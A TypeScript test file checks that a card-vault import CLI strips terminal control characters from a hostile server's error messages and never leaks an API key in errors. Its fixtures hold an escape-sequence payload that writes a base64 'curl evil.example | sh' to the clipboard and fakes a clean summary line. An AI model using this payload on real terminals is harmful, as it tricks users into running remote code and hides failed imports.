/**
 * Bulk review (b50): what a hostile or compromised server answering the CLI gets printed on the user's terminal.
 * The problem `detail` of a failed line (the summary printed on stdout) and of a 403 that stops the run (stderr)
 * are printed as the server sent them: control characters included. A server (or anything on the path, with
 * --allow-plain-http) answering `\x1b]52;c;…\x07` writes the user's clipboard, `\x1b]0;…\x07` the window title,
 * `\x1b[2J`/`\r\x1b[2K` rewrites what the terminal shows (hiding failed lines, or faking "0 failed"); the summary
 * file (JSON) escapes them, the printed summary does not.
 */
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it, vi } from "vitest";
import { runCli } from "#test/support/cli.ts";

const dir = () => mkdtempSync(join(tmpdir(), "svc-hostile-"));
const card = {
  type: "card",
  data: { number: "4242424242424242", expiration_month: 1, expiration_year: 2030 },
};
const ESC_DETAIL =
  "bad\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\u001b[1A\r\u001b[2Kimported: 0 failed";

afterEach(() => vi.unstubAllGlobals());

const runMain = (argv: string[]) => runCli(argv);

/** `svc-vault import` of a file of one card, against whatever `fetch` answers. */
function importOneCard() {
  const file = join(dir(), "cards.jsonl");
  writeFileSync(file, `${JSON.stringify(card)}\n`);
  return runMain(["import", file, "--url", "http://127.0.0.1:1"]);
}

describe("import CLI: a hostile server's answer on the terminal", () => {
  it("prints no control characters of a failed line's detail (the summary on stdout)", async () => {
    vi.stubGlobal(
      "fetch",
      vi.fn(
        async () =>
          new Response(
            JSON.stringify({
              status: 400,
              title: "Bad Request",
              detail: ESC_DETAIL,
              errors: { "0.data": ["x"] },
            }),
            { status: 400, headers: { "content-type": "application/problem+json" } },
          ),
      ),
    );
    const { code, printed } = await importOneCard();
    expect(code).toBe(1);
    expect(printed).toContain("line 1:");
    // Before: ESC and BEL reached the terminal as sent (OSC 52 clipboard write, screen clear, line rewrite).
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test is about them
    expect(printed).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });

  it("prints no control characters of a 403's detail that stops the run (stderr)", async () => {
    vi.stubGlobal(
      "fetch",
      vi.fn(
        async () =>
          new Response(JSON.stringify({ status: 403, title: "Forbidden", detail: ESC_DETAIL }), {
            status: 403,
            headers: { "content-type": "application/problem+json" },
          }),
      ),
    );
    const { code, printed } = await importOneCard();
    expect(code).toBe(2);
    expect(printed).toContain("403");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test is about them
    expect(printed).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });
});

describe("import CLI: a key the header cannot carry", () => {
  it("never puts the key in its error message (a SVC_API_KEY of two lines: `$(cat keys.txt)`)", async () => {
    const { runImport } = await import("../../scripts/cli/import.ts");
    const folder = dir();
    const file = join(folder, "cards.jsonl");
    writeFileSync(file, `${JSON.stringify(card)}\n`);
    const key = "key_pvt_Zr8dQ2mW7xK1pLs9Vb3nHt6Yc0Fa4Ue5\nkey_pvt_second";
    // Before: fetch refuses the header with `Headers.append: "<the key>" is an invalid header value.`, taken for a
    // connection failure, retried ten times, then printed whole: "cannot reach … (Headers.append: \"key_pvt_…")".
    const failure = await runImport({
      file,
      url: "http://127.0.0.1:1",
      key,
      sleep: async () => {},
      progress: { write: () => true, isTTY: false },
    }).then(
      () => undefined,
      (error: Error) => error,
    );
    expect(failure).toBeInstanceOf(Error);
    expect(failure?.message).not.toContain("Zr8dQ2mW7xK1pLs9Vb3nHt6Yc0Fa4Ue5");
  });

  // Review s51-a: the stub a replay answers for a token gone since names its id, which the summary prints.
  it("prints no control characters of a replay stub's id (a 'gone' line's detail on the terminal)", async () => {
    // A hostile server answers the batch as a replay whose token is "gone", its id an escape sequence: OSC 52
    // (clipboard write), a screen clear and a faked summary line.
    const id = "tok\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2J\r\u001b[2Kimported: 0 failed";
    vi.stubGlobal(
      "fetch",
      vi.fn(
        async () =>
          new Response(JSON.stringify([{ id, created_at: new Date().toISOString(), replay: "gone" }]), {
            status: 201,
            headers: { "content-type": "application/json", "svc-idempotent-replayed": "true" },
          }),
      ),
    );
    const { code, printed } = await importOneCard();
    expect(code).toBe(1);
    expect(printed).toContain("line 1:");
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test is about them
    expect(printed).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
  });
});
